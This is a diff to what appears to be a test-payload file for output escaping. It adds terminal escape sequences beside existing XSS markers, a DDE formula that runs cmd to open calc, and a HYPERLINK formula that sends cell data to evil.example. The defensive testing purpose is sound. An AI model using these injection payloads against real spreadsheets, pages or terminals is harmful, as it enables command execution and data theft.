@@ -25,6 +25,12 @@ SINGLE_QUOTE_BREAK = "'><b>x</b>"
 CMD = "=cmd|' /C calc'!A0"
 LONG_FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"click here to claim your prize")'
 
+# Terminal control sequences aimed at the commands' output: erase the screen (ESC CSI), set the
+# window title (OSC, closed by ESC \; a BEL would make the file binary), the one-byte C1 CSI.
+CLEAR_SCREEN = "\x1b[2J"
+SET_TITLE = "\x1b]0;ok\x1b\\"
+C1_CSI = "\x9b"
+
 # What must never appear raw in a page (each is part of a payload above, or of a file name
 # below), and is shown escaped where the value is shown. None occurs in a page of ours.
 MARKERS = ("<script>alert(", "<img src=x onerror=", '"><script>', "'><b>x", "<b>bold")
